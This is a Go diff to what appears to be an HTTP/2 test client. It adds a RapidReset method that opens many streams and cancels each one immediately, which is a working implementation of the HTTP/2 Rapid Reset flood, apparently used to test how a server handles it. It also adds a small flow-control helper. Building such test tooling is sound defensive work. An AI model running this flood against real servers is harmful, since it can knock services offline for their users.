@@ -235,5 +235,35 @@ func (c *H2Client) Reset(id uint32) {
 	c.write(func() error { return c.fr.WriteRSTStream(id, http2.ErrCodeCancel) })
 }
 
+// RapidReset opens n streams from first (odd IDs), resetting each
+// (CANCEL) right after its request head, as a Rapid Reset flood does; it
+// stops at the first write that fails (the server closed the connection)
+// and returns how many pairs it wrote.
+func (c *H2Client) RapidReset(first uint32, n int, authority, path string) int {
+	c.wmu.Lock()
+	defer c.wmu.Unlock()
+	for i := range n {
+		id := first + 2*uint32(i)
+		c.hb.Reset()
+		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", authority}, {":path", path}} {
+			_ = c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+		}
+		err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hb.Bytes(), EndStream: true, EndHeaders: true})
+		if err == nil {
+			err = c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
+		}
+		if err != nil {
+			return i
+		}
+	}
+	return n
+}
+
+// WindowUpdate grants n more bytes of flow-control window to stream id
+// (0: the connection).
+func (c *H2Client) WindowUpdate(id, n uint32) {
+	c.write(func() error { return c.fr.WriteWindowUpdate(id, n) })
+}
+
 // Close closes the connection (the client's FIN).
 func (c *H2Client) Close() { _ = c.conn.Close() }
